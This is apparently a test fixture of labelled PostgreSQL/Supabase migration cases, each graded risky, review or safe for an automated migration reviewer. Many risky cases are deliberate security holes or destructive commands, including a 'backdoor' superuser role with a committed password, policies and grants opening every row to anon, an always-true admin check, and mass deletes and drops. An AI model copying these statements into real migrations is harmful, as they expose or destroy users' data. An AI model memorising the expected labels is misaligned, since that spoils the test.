-- Hand-written reviewer classes for issue 19: each case is one small migration and the
-- class an experienced PostgreSQL + Supabase reviewer gives it (worst statement wins).
-- risky = can lose existing data, expose data, or act outside the transaction;
-- review = changes behaviour/availability (locks, rewrites, privileges, renames) without loss;
-- safe = plainly additive. Tables a case does not create exist in production with rows.

-- case: rls-disable-public-table
-- expect: risky
-- why: turning RLS off on an exposed table hands every row to anon through the API
ALTER TABLE public.profiles DISABLE ROW LEVEL SECURITY;

-- case: rls-disable-storage-objects
-- expect: risky
-- why: RLS off on storage.objects exposes every stored file's metadata and access to anon
ALTER TABLE storage.objects DISABLE ROW LEVEL SECURITY;

-- case: rls-no-force
-- expect: review
-- why: the owner stops being subject to policies; API roles still are, nothing exposed
ALTER TABLE public.orders NO FORCE ROW LEVEL SECURITY;

-- case: rls-force
-- expect: review
-- why: the owner becomes subject to policies; jobs running as owner may see nothing
ALTER TABLE public.orders FORCE ROW LEVEL SECURITY;

-- case: rls-enable-existing-table
-- expect: safe
-- why: turning RLS on closes access, exposes and loses nothing
ALTER TABLE public.orders ENABLE ROW LEVEL SECURITY;

-- case: policy-anon-select-true
-- expect: risky
-- why: anon reads every existing profile
CREATE POLICY "Anyone can read profiles" ON public.profiles FOR SELECT TO anon USING (true);

-- case: policy-default-public-true
-- expect: risky
-- why: no TO clause means PUBLIC, anon included, and USING (true) opens every order
CREATE POLICY "Read all orders" ON public.orders FOR SELECT USING (true);

-- case: policy-anon-update-true
-- expect: risky
-- why: anon may read and overwrite every profile row
CREATE POLICY "Anyone can edit" ON public.profiles FOR UPDATE TO anon USING (true) WITH CHECK (true);

-- case: policy-for-all-public-true
-- expect: risky
-- why: FOR ALL to PUBLIC with true lets anon read, change and delete every order
CREATE POLICY "open" ON public.orders FOR ALL USING (true) WITH CHECK (true);

-- case: policy-authenticated-true-on-orders
-- expect: risky
-- why: any signed-up user (signup is open) reads every customer's orders
CREATE POLICY "Logged in users read orders" ON public.orders FOR SELECT TO authenticated USING (true);

-- case: policy-own-rows-existing-table
-- expect: review
-- why: a real owner condition, but it widens access on an existing table with data
CREATE POLICY "Users read own orders" ON public.orders FOR SELECT TO authenticated USING ((SELECT auth.uid()) = user_id);

-- case: policy-restrictive-existing-table
-- expect: review
-- why: a restrictive policy narrows access for every existing query; outage risk, no exposure
CREATE POLICY "Only verified users" ON public.orders AS RESTRICTIVE FOR ALL TO authenticated USING ((SELECT auth.jwt() ->> 'email_verified') = 'true');

-- case: policy-service-role-existing-table
-- expect: review
-- why: service_role bypasses RLS anyway; a policy change on an existing table to look at
CREATE POLICY "Service role full access" ON public.orders FOR ALL TO service_role USING (true) WITH CHECK (true);

-- case: policy-new-table-own-rows
-- expect: safe
-- why: new table with RLS on and an owner-only policy
CREATE TABLE public.notes (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  user_id uuid NOT NULL REFERENCES auth.users (id) ON DELETE CASCADE,
  body text NOT NULL,
  created_at timestamptz NOT NULL DEFAULT now()
);
ALTER TABLE public.notes ENABLE ROW LEVEL SECURITY;
CREATE POLICY "Users read own notes" ON public.notes FOR SELECT TO authenticated USING ((SELECT auth.uid()) = user_id);

-- case: policy-new-table-insert-with-check
-- expect: safe
-- why: new table, insert allowed only for the caller's own rows
CREATE TABLE public.feedback (
  id uuid PRIMARY KEY DEFAULT gen_random_uuid(),
  user_id uuid NOT NULL DEFAULT auth.uid(),
  message text NOT NULL
);
ALTER TABLE public.feedback ENABLE ROW LEVEL SECURITY;
CREATE POLICY "Users send feedback" ON public.feedback FOR INSERT TO authenticated WITH CHECK ((SELECT auth.uid()) = user_id);

-- case: alter-policy-using-true
-- expect: risky
-- why: an owner-only policy rewritten to true shows every order to everyone it applies to
ALTER POLICY "Users read own orders" ON public.orders USING (true);

-- case: alter-policy-tighten
-- expect: review
-- why: policy condition and roles changed on an existing table; narrows, exposes nothing
ALTER POLICY "Users read own orders" ON public.orders TO authenticated USING ((SELECT auth.uid()) = user_id);

-- case: alter-policy-rename
-- expect: review
-- why: rename of an existing policy
ALTER POLICY "Users read own orders" ON public.orders RENAME TO "orders_select_own";

-- case: drop-policy
-- expect: review
-- why: RLS stays on, so users lose access (outage) but nothing is exposed
DROP POLICY "Users read own orders" ON public.orders;

-- case: drop-and-recreate-policy
-- expect: review
-- why: existing policy replaced with a new condition; behaviour change on live data
DROP POLICY IF EXISTS "Users update own profile" ON public.profiles;
CREATE POLICY "Users update own profile" ON public.profiles FOR UPDATE TO authenticated USING ((SELECT auth.uid()) = id) WITH CHECK ((SELECT auth.uid()) = id);

-- case: grant-select-anon-existing
-- expect: risky
-- why: table privilege to anon on an exposed table with data
GRANT SELECT ON public.orders TO anon;

-- case: grant-all-tables-anon
-- expect: risky
-- why: every table of the exposed schema granted to anon
GRANT ALL ON ALL TABLES IN SCHEMA public TO anon, authenticated;

-- case: grant-select-public-pseudo-role
-- expect: risky
-- why: PUBLIC includes anon
GRANT SELECT ON public.orders TO PUBLIC;

-- case: grant-columns-anon
-- expect: risky
-- why: column grant to anon on an exposed table with data
GRANT SELECT (id, username, avatar_url) ON public.profiles TO anon;

-- case: grant-authenticated-existing
-- expect: review
-- why: privilege change for signed-in users on an existing table; RLS still decides rows
GRANT SELECT, INSERT, UPDATE ON public.orders TO authenticated;

-- case: grant-authenticated-new-table-rls
-- expect: safe
-- why: new table with RLS and an owner policy, granted to authenticated
CREATE TABLE public.todos (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  user_id uuid NOT NULL DEFAULT auth.uid(),
  title text NOT NULL,
  done boolean NOT NULL DEFAULT false
);
ALTER TABLE public.todos ENABLE ROW LEVEL SECURITY;
CREATE POLICY "Own todos" ON public.todos FOR ALL TO authenticated USING ((SELECT auth.uid()) = user_id) WITH CHECK ((SELECT auth.uid()) = user_id);
GRANT SELECT, INSERT, UPDATE, DELETE ON public.todos TO authenticated;

-- case: grant-service-role-new-table
-- expect: safe
-- why: new table with RLS on, only the service role gets privileges
CREATE TABLE public.webhook_events (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  payload jsonb NOT NULL,
  received_at timestamptz NOT NULL DEFAULT now()
);
ALTER TABLE public.webhook_events ENABLE ROW LEVEL SECURITY;
REVOKE ALL ON public.webhook_events FROM anon, authenticated;
GRANT ALL ON public.webhook_events TO service_role;

-- case: revoke-anon-existing
-- expect: review
-- why: removes access; may break the app, exposes nothing
REVOKE ALL ON public.orders FROM anon;

-- case: default-privileges-grant-anon
-- expect: review
-- why: only future tables are affected; nothing existing is exposed now
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO anon;

-- case: default-privileges-revoke-anon
-- expect: review
-- why: privilege setting for future tables
ALTER DEFAULT PRIVILEGES IN SCHEMA public REVOKE ALL ON TABLES FROM anon;

-- case: grant-auth-users-authenticated
-- expect: risky
-- why: every signed-in user can read all users' emails and metadata
GRANT SELECT ON auth.users TO authenticated;

-- case: owner-to-anon
-- expect: risky
-- why: the owner bypasses RLS, so anon would read every order
ALTER TABLE public.orders OWNER TO anon;

-- case: owner-change-table
-- expect: review
-- why: ownership change on an existing table
ALTER TABLE public.orders OWNER TO reporting;

-- case: owner-change-function
-- expect: review
-- why: ownership change on an existing function
ALTER FUNCTION public.calculate_total(bigint) OWNER TO postgres;

-- case: reassign-owned
-- expect: review
-- why: ownership of many objects moves; nothing dropped
REASSIGN OWNED BY legacy_admin TO postgres;

-- case: create-role-nologin
-- expect: review
-- why: role change, no privileges granted, exposes nothing
CREATE ROLE reporting NOLOGIN;

-- case: create-role-superuser-with-password
-- expect: risky
-- why: a superuser login with a password committed to the repository opens the whole database
CREATE ROLE backdoor WITH LOGIN SUPERUSER PASSWORD 'hunter2';

-- case: alter-role-anon-bypassrls
-- expect: risky
-- why: anon ignores every policy
ALTER ROLE anon WITH BYPASSRLS;

-- case: grant-service-role-to-anon
-- expect: risky
-- why: anon inherits service_role, which bypasses RLS
GRANT service_role TO anon;

-- case: drop-role
-- expect: review
-- why: a role cannot be dropped while it owns objects; only logins/privileges go
DROP ROLE IF EXISTS legacy_reporter;

-- case: alter-role-set-timeout
-- expect: review
-- why: setting change for API requests
ALTER ROLE authenticated SET statement_timeout = '8s';

-- case: alter-role-in-database-set
-- expect: review
-- why: per-database role setting
ALTER ROLE anon IN DATABASE postgres SET statement_timeout = '3s';

-- case: alter-database-set-timeout
-- expect: review
-- why: database-wide setting change
ALTER DATABASE postgres SET statement_timeout = '30s';

-- case: alter-database-connection-limit
-- expect: review
-- why: availability setting; no data touched
ALTER DATABASE postgres CONNECTION LIMIT 20;

-- case: set-session-replication-role
-- expect: review
-- why: the session skips triggers and foreign key checks for the rest of the migration
SET session_replication_role = replica;

-- case: view-security-invoker-new
-- expect: safe
-- why: new view runs with the caller's rights, RLS of orders applies
CREATE VIEW public.my_order_totals WITH (security_invoker = true) AS
SELECT user_id, sum(total) AS total FROM public.orders GROUP BY user_id;

-- case: view-definer-over-rls-table
-- expect: risky
-- why: a view without security_invoker in public reads orders as its owner, bypassing RLS for anon
CREATE VIEW public.order_summaries AS
SELECT id, user_id, total, status FROM public.orders;

-- case: replace-view-drops-security-invoker
-- expect: risky
-- why: CREATE OR REPLACE without WITH resets security_invoker; the view then bypasses RLS
CREATE OR REPLACE VIEW public.order_totals AS
SELECT user_id, sum(total) AS total FROM public.orders GROUP BY user_id;

-- case: create-then-replace-view-loses-invoker
-- expect: risky
-- why: the second statement drops the security_invoker the first one set
CREATE VIEW public.open_orders WITH (security_invoker = true) AS
SELECT id, user_id FROM public.orders WHERE status = 'open';
CREATE OR REPLACE VIEW public.open_orders AS
SELECT id, user_id FROM public.orders WHERE status = 'open';

-- case: replace-view-keeps-security-invoker
-- expect: review
-- why: replaced view body, still invoker rights
CREATE OR REPLACE VIEW public.order_totals WITH (security_invoker = true) AS
SELECT user_id, sum(total) AS total, count(*) AS orders FROM public.orders GROUP BY user_id;

-- case: replace-view-private-schema
-- expect: review
-- why: replaced view body in a schema the API does not expose
CREATE OR REPLACE VIEW private.daily_signups AS
SELECT date_trunc('day', created_at) AS day, count(*) AS signups FROM public.profiles GROUP BY 1;

-- case: alter-view-security-invoker-off
-- expect: risky
-- why: the view switches to owner rights and bypasses RLS
ALTER VIEW public.order_totals SET (security_invoker = false);

-- case: alter-view-reset-security-invoker
-- expect: risky
-- why: resetting the option is the same as turning invoker rights off
ALTER VIEW public.order_totals RESET (security_invoker);

-- case: alter-view-security-invoker-on
-- expect: review
-- why: tightens access; callers may now see fewer rows
ALTER VIEW public.order_totals SET (security_invoker = true);

-- case: view-exposes-auth-users
-- expect: risky
-- why: a view in public over auth.users shows every user's email to the API
CREATE VIEW public.user_directory AS
SELECT id, email, raw_user_meta_data FROM auth.users;

-- case: view-joins-auth-users-email
-- expect: risky
-- why: profiles joined to auth.users emails, owner rights, exposed schema
CREATE OR REPLACE VIEW public.profiles_with_email AS
SELECT p.id, p.username, u.email FROM public.profiles p JOIN auth.users u ON u.id = p.id;

-- case: matview-public-over-orders
-- expect: risky
-- why: materialized views ignore RLS and are reachable through the API in public
CREATE MATERIALIZED VIEW public.user_order_counts AS
SELECT user_id, count(*) AS orders, sum(total) AS spent FROM public.orders GROUP BY user_id;

-- case: matview-private-schema
-- expect: safe
-- why: new materialized view in a schema the API does not expose
CREATE SCHEMA IF NOT EXISTS private;
CREATE MATERIALIZED VIEW private.monthly_revenue AS
SELECT date_trunc('month', created_at) AS month, sum(total) AS revenue FROM public.orders GROUP BY 1;

-- case: alter-function-security-definer
-- expect: review
-- why: an existing function starts running with its owner's rights; body unknown here
ALTER FUNCTION public.get_orders() SECURITY DEFINER;

-- case: alter-function-set-search-path
-- expect: review
-- why: hardening an existing function; unqualified names inside may stop resolving
ALTER FUNCTION public.calculate_total(bigint) SET search_path = '';

-- case: create-table-public-without-rls
-- expect: review
-- why: a new table in public without RLS is open to anon through default grants once it has rows
CREATE TABLE public.contacts (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  name text NOT NULL,
  phone text
);

-- case: create-table-private-schema
-- expect: safe
-- why: new table in a schema the API does not expose
CREATE SCHEMA IF NOT EXISTS private;
CREATE TABLE private.job_runs (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  job text NOT NULL,
  started_at timestamptz NOT NULL DEFAULT now(),
  finished_at timestamptz
);

-- case: drop-type-cascade
-- expect: risky
-- why: CASCADE drops every column of that type with its values
DROP TYPE public.order_status CASCADE;

-- case: drop-type-no-cascade
-- expect: review
-- why: fails if any column uses it; otherwise removes an unused type
DROP TYPE IF EXISTS public.legacy_mood;

-- case: drop-domain-cascade
-- expect: risky
-- why: columns declared with the domain are dropped with their data
DROP DOMAIN public.email_address CASCADE;

-- case: drop-domain-no-cascade
-- expect: review
-- why: fails while a column uses it; no data lost
DROP DOMAIN public.legacy_phone;

-- case: drop-extension-cascade
-- expect: risky
-- why: dropping postgis with CASCADE drops every geometry column
DROP EXTENSION IF EXISTS postgis CASCADE;

-- case: drop-extension-pg-cron
-- expect: risky
-- why: the extension owns cron.job; its scheduled jobs and history are dropped with it
DROP EXTENSION IF EXISTS pg_cron;

-- case: drop-extension-no-cascade
-- expect: review
-- why: fails if a default or column depends on it; functions disappear
DROP EXTENSION IF EXISTS "uuid-ossp";

-- case: drop-collation-cascade
-- expect: risky
-- why: columns using the collation are dropped with it
DROP COLLATION IF EXISTS public.case_insensitive CASCADE;

-- case: alter-type-drop-attribute
-- expect: risky
-- why: the attribute's values disappear from every stored value of the composite type
ALTER TYPE public.address DROP ATTRIBUTE zip;

-- case: alter-type-drop-attribute-cascade
-- expect: risky
-- why: drops the attribute from typed tables too, with their data
ALTER TYPE public.address DROP ATTRIBUTE IF EXISTS region CASCADE;

-- case: drop-owned-by
-- expect: risky
-- why: drops every table and object the role owns
DROP OWNED BY legacy_admin;

-- case: drop-sequence-cascade
-- expect: risky
-- why: the id default goes and the counter is lost; a new one would restart below existing keys
DROP SEQUENCE public.orders_id_seq CASCADE;

-- case: drop-sequence-counter
-- expect: risky
-- why: the invoice counter's current value is data; recreating it restarts numbering
DROP SEQUENCE public.invoice_number_seq;

-- case: update-where-true
-- expect: risky
-- why: overwrites a column of every row
UPDATE public.orders SET status = 'archived' WHERE true;

-- case: update-no-where
-- expect: risky
-- why: overwrites every profile's display name
UPDATE public.profiles SET display_name = NULL;

-- case: update-lossy-normalize
-- expect: risky
-- why: lower-casing every email loses the original values
UPDATE public.users SET email = lower(email);

-- case: update-join-every-row
-- expect: risky
-- why: the join matches every order, all statuses overwritten
UPDATE public.orders o SET status = 'migrated' FROM public.users u WHERE u.id = o.user_id;

-- case: update-single-row
-- expect: risky
-- why: a data fix still overwrites an existing value that cannot be recovered after commit
UPDATE public.orders SET status = 'cancelled' WHERE id = 1042;

-- case: update-backfill-new-column
-- expect: review
-- why: the column is new so nothing is overwritten, but every row is rewritten under lock
ALTER TABLE public.orders ADD COLUMN total_cents bigint;
UPDATE public.orders SET total_cents = (total * 100)::bigint;

-- case: update-fill-nulls-only
-- expect: review
-- why: only NULLs are filled, no value is lost; many rows locked and rewritten
UPDATE public.profiles SET display_name = username WHERE display_name IS NULL;

-- case: delete-where-true
-- expect: risky
-- why: deletes every row
DELETE FROM public.orders WHERE true;

-- case: delete-no-where
-- expect: risky
-- why: deletes every session row
DELETE FROM public.sessions;

-- case: delete-using-join
-- expect: risky
-- why: the join matches every item that has an order
DELETE FROM public.order_items oi USING public.orders o WHERE oi.order_id = o.id;

-- case: delete-targeted-row
-- expect: risky
-- why: deletes an existing row
DELETE FROM public.orders WHERE id = 42;

-- case: delete-expired
-- expect: risky
-- why: cleanup deletes existing rows
DELETE FROM public.sessions WHERE expires_at < now();

-- case: cte-delete-move-to-archive
-- expect: risky
-- why: rows leave the live table; nothing proves the archive keeps them all
WITH moved AS (
  DELETE FROM public.orders WHERE created_at < now() - interval '2 years' RETURNING *
)
INSERT INTO public.orders_archive SELECT * FROM moved;

-- case: cte-select-then-delete
-- expect: risky
-- why: the CTE picks rows and the outer DELETE removes them
WITH doomed AS (
  SELECT id FROM public.profiles WHERE last_seen_at < now() - interval '1 year'
)
DELETE FROM public.profiles WHERE id IN (SELECT id FROM doomed);

-- case: cte-dedupe-update
-- expect: risky
-- why: overwrites emails of existing users
WITH dupes AS (
  SELECT id, row_number() OVER (PARTITION BY lower(email) ORDER BY created_at) AS n FROM public.users
)
UPDATE public.users u SET email = u.id || '@invalid' FROM dupes d WHERE d.id = u.id AND d.n > 1;

-- case: cte-copy-into-new-table
-- expect: safe
-- why: reads existing rows into a new private table; nothing changed
CREATE TABLE private.big_spenders (user_id uuid PRIMARY KEY, spent numeric NOT NULL);
WITH totals AS (
  SELECT user_id, sum(total) AS spent FROM public.orders GROUP BY user_id
)
INSERT INTO private.big_spenders (user_id, spent) SELECT user_id, spent FROM totals WHERE spent > 1000;

-- case: merge-update-and-insert
-- expect: risky
-- why: WHEN MATCHED UPDATE overwrites existing prices
MERGE INTO public.products p
USING private.price_import s ON p.sku = s.sku
WHEN MATCHED THEN UPDATE SET price = s.price
WHEN NOT MATCHED THEN INSERT (sku, price) VALUES (s.sku, s.price);

-- case: merge-delete
-- expect: risky
-- why: WHEN MATCHED DELETE removes existing rows
MERGE INTO public.products p
USING private.discontinued d ON p.sku = d.sku
WHEN MATCHED THEN DELETE;

-- case: merge-insert-only-new-table
-- expect: safe
-- why: target created in the same file, inserts only
CREATE TABLE private.product_snapshot (sku text PRIMARY KEY, price numeric);
MERGE INTO private.product_snapshot s
USING public.products p ON s.sku = p.sku
WHEN NOT MATCHED THEN INSERT (sku, price) VALUES (p.sku, p.price);

-- case: merge-insert-only-existing
-- expect: review
-- why: only adds rows to a live table; nothing overwritten, but the app sees new data
MERGE INTO public.products p
USING private.new_products s ON p.sku = s.sku
WHEN MATCHED THEN DO NOTHING
WHEN NOT MATCHED THEN INSERT (sku, price) VALUES (s.sku, s.price);

-- case: upsert-do-update-existing
-- expect: risky
-- why: ON CONFLICT DO UPDATE overwrites existing rows
INSERT INTO public.profiles (id, username) VALUES ('00000000-0000-0000-0000-000000000001', 'admin')
ON CONFLICT (id) DO UPDATE SET username = EXCLUDED.username;

-- case: upsert-do-update-new-table
-- expect: safe
-- why: seed upsert into a table created in the same file
CREATE TABLE private.countries (code char(2) PRIMARY KEY, name text NOT NULL);
INSERT INTO private.countries (code, name) VALUES ('FR', 'France'), ('DE', 'Germany')
ON CONFLICT (code) DO UPDATE SET name = EXCLUDED.name;

-- case: insert-do-nothing-existing
-- expect: review
-- why: adds reference rows to a live table; no existing row changed
INSERT INTO public.plans (id, name, price_cents) VALUES ('team', 'Team', 4900)
ON CONFLICT (id) DO NOTHING;

-- case: insert-select-backfill-profiles
-- expect: review
-- why: creates missing profile rows for existing users; no row overwritten
INSERT INTO public.profiles (id)
SELECT u.id FROM auth.users u
ON CONFLICT (id) DO NOTHING;

-- case: truncate
-- expect: risky
-- why: removes every row
TRUNCATE public.audit_log;

-- case: truncate-cascade
-- expect: risky
-- why: empties orders and every table referencing it
TRUNCATE TABLE public.orders CASCADE;

-- case: truncate-restart-identity
-- expect: risky
-- why: empties the table and resets its identity
TRUNCATE public.order_items RESTART IDENTITY;

-- case: truncate-new-table
-- expect: safe
-- why: the table was created in the same file and is empty
CREATE TABLE private.import_staging (line text);
TRUNCATE private.import_staging;

-- case: drop-table
-- expect: risky
-- why: drops a table with its rows
DROP TABLE public.orders;

-- case: drop-table-if-exists-cascade
-- expect: risky
-- why: drops the table and everything depending on it
DROP TABLE IF EXISTS public.legacy_payments CASCADE;

-- case: drop-table-created-same-file
-- expect: safe
-- why: a scratch table created and dropped in the same migration
CREATE TABLE private.tmp_backfill (id bigint);
DROP TABLE private.tmp_backfill;

-- case: drop-column
-- expect: risky
-- why: the column's values are lost
ALTER TABLE public.orders DROP COLUMN legacy_note;

-- case: drop-column-if-exists
-- expect: risky
-- why: the column's values are lost when it exists
ALTER TABLE public.profiles DROP COLUMN IF EXISTS website;

-- case: drop-column-added-same-file
-- expect: safe
-- why: the column was added in this file and never held data
ALTER TABLE public.orders ADD COLUMN temp_flag boolean;
ALTER TABLE public.orders DROP COLUMN temp_flag;

-- case: drop-schema-cascade
-- expect: risky
-- why: every table in the schema goes with its rows
DROP SCHEMA billing CASCADE;

-- case: drop-schema-no-cascade
-- expect: review
-- why: fails unless the schema is empty
DROP SCHEMA IF EXISTS scratch;

-- case: drop-view
-- expect: review
-- why: a view holds no data; clients using it break
DROP VIEW public.order_totals;

-- case: drop-materialized-view
-- expect: review
-- why: its contents are derived and can be rebuilt; clients break
DROP MATERIALIZED VIEW private.monthly_revenue;

-- case: drop-database
-- expect: risky
-- why: a whole database gone, outside any transaction
DROP DATABASE IF EXISTS staging;

-- case: drop-function-cascade-used-by-policies
-- expect: risky
-- why: CASCADE drops the policies (restrictive ones included) and generated columns using it
DROP FUNCTION public.is_admin() CASCADE;

-- case: drop-function-no-cascade
-- expect: review
-- why: fails if anything depends on it; RPC callers break
DROP FUNCTION IF EXISTS public.calculate_total(bigint);

-- case: drop-trigger-function-cascade
-- expect: review
-- why: only triggers can depend on a trigger function; signups stop creating profiles
DROP FUNCTION public.handle_new_user() CASCADE;

-- case: replace-policy-helper-returns-true
-- expect: risky
-- why: policies call is_admin(); it now says yes to everyone
CREATE OR REPLACE FUNCTION public.is_admin()
RETURNS boolean
LANGUAGE sql
STABLE
AS $$
  SELECT true;
$$;

-- case: replace-function-body
-- expect: review
-- why: the body of an existing function changes
CREATE OR REPLACE FUNCTION public.calculate_total(p_order_id bigint)
RETURNS numeric
LANGUAGE sql
STABLE
AS $$
  SELECT coalesce(sum(quantity * unit_price), 0) * 1.2 FROM public.order_items WHERE order_id = p_order_id;
$$;

-- case: replace-definer-returns-any-users-orders
-- expect: risky
-- why: definer rights, callable by anon by default, returns any user's orders
CREATE OR REPLACE FUNCTION public.get_orders(p_user uuid)
RETURNS SETOF public.orders
LANGUAGE sql
SECURITY DEFINER
AS $$
  SELECT * FROM public.orders WHERE user_id = p_user;
$$;

-- case: trigger-before-insert-returns-null
-- expect: risky
-- why: every new order is silently discarded
CREATE FUNCTION public.skip_insert() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  RETURN NULL;
END;
$$;
CREATE TRIGGER orders_skip_insert BEFORE INSERT ON public.orders FOR EACH ROW EXECUTE FUNCTION public.skip_insert();

-- case: trigger-before-update-returns-null
-- expect: risky
-- why: every update to profiles is silently dropped, users' edits are lost
CREATE FUNCTION public.freeze_rows() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  RETURN NULL;
END;
$$;
CREATE TRIGGER profiles_freeze BEFORE UPDATE ON public.profiles FOR EACH ROW EXECUTE FUNCTION public.freeze_rows();

-- case: trigger-before-delete-returns-null
-- expect: review
-- why: deletes are silently skipped; rows kept, behaviour changed
CREATE FUNCTION public.block_deletes() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  RETURN NULL;
END;
$$;
CREATE TRIGGER orders_block_delete BEFORE DELETE ON public.orders FOR EACH ROW EXECUTE FUNCTION public.block_deletes();

-- case: rule-insert-instead-nothing
-- expect: risky
-- why: inserts into orders vanish silently
CREATE RULE orders_no_insert AS ON INSERT TO public.orders DO INSTEAD NOTHING;

-- case: rule-update-instead-nothing
-- expect: risky
-- why: updates are discarded silently, written values lost
CREATE RULE profiles_no_update AS ON UPDATE TO public.profiles DO INSTEAD NOTHING;

-- case: rule-delete-instead-nothing
-- expect: review
-- why: deletes are ignored; data kept, behaviour changed
CREATE RULE orders_no_delete AS ON DELETE TO public.orders DO INSTEAD NOTHING;

-- case: rule-soft-delete
-- expect: review
-- why: DELETE becomes an UPDATE of deleted_at; rows kept
CREATE RULE orders_soft_delete AS ON DELETE TO public.orders
DO INSTEAD UPDATE public.orders SET deleted_at = now() WHERE id = OLD.id;

-- case: setval-to-one
-- expect: risky
-- why: the next ids collide with existing keys
SELECT setval('public.orders_id_seq', 1);

-- case: setval-serial-sequence-false
-- expect: risky
-- why: restarts the id sequence at 1 below existing keys
SELECT setval(pg_get_serial_sequence('public.orders', 'id'), 1, false);

-- case: alter-sequence-restart
-- expect: risky
-- why: RESTART goes back to the start value, below existing keys
ALTER SEQUENCE public.orders_id_seq RESTART;

-- case: alter-sequence-restart-with-one
-- expect: risky
-- why: the next id is 1 again
ALTER SEQUENCE public.invoice_number_seq RESTART WITH 1;

-- case: identity-restart
-- expect: risky
-- why: identity column restarts below existing ids
ALTER TABLE public.orders ALTER COLUMN id RESTART WITH 1;

-- case: add-identity-to-populated-id
-- expect: risky
-- why: the new identity sequence starts at 1, below the ids already stored
ALTER TABLE public.legacy_customers ALTER COLUMN id ADD GENERATED BY DEFAULT AS IDENTITY;

-- case: alter-sequence-start-with
-- expect: review
-- why: changes only the start value for a later RESTART, not the current value
ALTER SEQUENCE public.orders_id_seq START WITH 1;

-- case: alter-sequence-cycle
-- expect: review
-- why: at its maximum the sequence would wrap to reused ids; nothing now
ALTER SEQUENCE public.orders_id_seq CYCLE;

-- case: alter-sequence-increment
-- expect: review
-- why: sequence behaviour change
ALTER SEQUENCE public.orders_id_seq INCREMENT BY 10;

-- case: setval-to-max-existing
-- expect: review
-- why: realigns the sequence with existing keys; may move it back over deleted ids
SELECT setval('public.orders_id_seq', (SELECT max(id) FROM public.orders));

-- case: setval-new-table
-- expect: safe
-- why: sequence of a table created and seeded in this file, aligned to its own rows
CREATE TABLE private.legacy_ids (id bigint GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY, ref text);
INSERT INTO private.legacy_ids (id, ref) VALUES (1, 'a'), (2, 'b');
SELECT setval(pg_get_serial_sequence('private.legacy_ids', 'id'), (SELECT max(id) FROM private.legacy_ids));

-- case: drop-default-on-id
-- expect: review
-- why: inserts without an explicit id start failing; no data lost
ALTER TABLE public.orders ALTER COLUMN id DROP DEFAULT;

-- case: drop-identity
-- expect: review
-- why: id is no longer generated; inserts without id fail
ALTER TABLE public.orders ALTER COLUMN id DROP IDENTITY IF EXISTS;

-- case: identity-always-to-by-default
-- expect: review
-- why: identity behaviour change on an existing column
ALTER TABLE public.orders ALTER COLUMN id SET GENERATED BY DEFAULT;

-- case: replica-identity-nothing
-- expect: review
-- why: logical replication and Realtime can no longer publish updates and deletes
ALTER TABLE public.orders REPLICA IDENTITY NOTHING;

-- case: replica-identity-full
-- expect: review
-- why: WAL volume and replication behaviour change
ALTER TABLE public.messages REPLICA IDENTITY FULL;

-- case: alter-schema-rename
-- expect: review
-- why: every query naming the schema breaks
ALTER SCHEMA billing RENAME TO finance;

-- case: rename-table
-- expect: review
-- why: clients and functions naming orders break
ALTER TABLE public.orders RENAME TO purchases;

-- case: rename-column
-- expect: review
-- why: clients using the old column name break
ALTER TABLE public.orders RENAME COLUMN total TO total_amount;

-- case: rename-index
-- expect: review
-- why: rename of an existing object
ALTER INDEX public.orders_user_id_idx RENAME TO orders_user_idx;

-- case: rename-table-created-same-file
-- expect: safe
-- why: fixes the name of a table created in the same file
CREATE TABLE private.feedbak (id bigint PRIMARY KEY, body text);
ALTER TABLE private.feedbak RENAME TO feedback;

-- case: enum-rename-value
-- expect: review
-- why: stored values read with the new label; clients comparing the old one break
ALTER TYPE public.order_status RENAME VALUE 'shipped' TO 'dispatched';

-- case: enum-add-value
-- expect: safe
-- why: adds a label; existing values unchanged
ALTER TYPE public.order_status ADD VALUE IF NOT EXISTS 'refunded';

-- case: trigger-disable
-- expect: review
-- why: the audit trigger stops firing
ALTER TABLE public.orders DISABLE TRIGGER orders_audit;

-- case: trigger-disable-all
-- expect: review
-- why: disables user triggers and the foreign key triggers too
ALTER TABLE public.orders DISABLE TRIGGER ALL;

-- case: trigger-enable-replica
-- expect: review
-- why: trigger firing behaviour change
ALTER TABLE public.orders ENABLE REPLICA TRIGGER orders_audit;

-- case: drop-trigger-auth-users
-- expect: review
-- why: new signups stop getting a profile row; nothing existing lost
DROP TRIGGER IF EXISTS on_auth_user_created ON auth.users;

-- case: create-audit-trigger-existing-table
-- expect: review
-- why: every write to orders now runs extra code and can fail
CREATE TABLE private.orders_audit (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, op text NOT NULL, row_data jsonb, at timestamptz NOT NULL DEFAULT now());
CREATE FUNCTION private.audit_orders() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO private.orders_audit (op, row_data) VALUES (TG_OP, to_jsonb(coalesce(NEW, OLD)));
  RETURN NULL;
END;
$$;
CREATE TRIGGER orders_audit AFTER INSERT OR UPDATE OR DELETE ON public.orders FOR EACH ROW EXECUTE FUNCTION private.audit_orders();

-- case: create-trigger-new-table
-- expect: safe
-- why: trigger on a table created in the same file
CREATE TABLE private.documents (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), title text, updated_at timestamptz);
CREATE FUNCTION private.touch_updated_at() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  NEW.updated_at := now();
  RETURN NEW;
END;
$$;
CREATE TRIGGER documents_touch BEFORE UPDATE ON private.documents FOR EACH ROW EXECUTE FUNCTION private.touch_updated_at();

-- case: event-trigger
-- expect: review
-- why: runs code on every DDL command in the database
CREATE FUNCTION public.log_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
  RAISE NOTICE 'ddl: %', tg_tag;
END;
$$;
CREATE EVENT TRIGGER log_ddl_end ON ddl_command_end EXECUTE FUNCTION public.log_ddl();

-- case: set-tablespace
-- expect: review
-- why: rewrites the table under ACCESS EXCLUSIVE
ALTER TABLE public.orders SET TABLESPACE fast_ssd;

-- case: set-tablespace-all-in
-- expect: review
-- why: moves every table of a tablespace, each rewritten under lock
